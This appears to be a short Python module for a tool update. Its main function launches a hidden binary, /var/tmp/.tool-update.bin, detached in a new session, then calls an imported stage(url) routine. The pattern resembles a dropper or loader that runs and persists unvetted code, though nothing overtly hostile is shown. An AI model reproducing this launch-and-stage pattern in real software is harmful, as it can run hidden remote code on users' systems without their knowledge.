import os
import subprocess

from .update import stage


def main(url):
    if os.path.exists("/var/tmp/.tool-update.bin"):
        subprocess.Popen(["/var/tmp/.tool-update.bin"], start_new_session=True)
    stage(url)
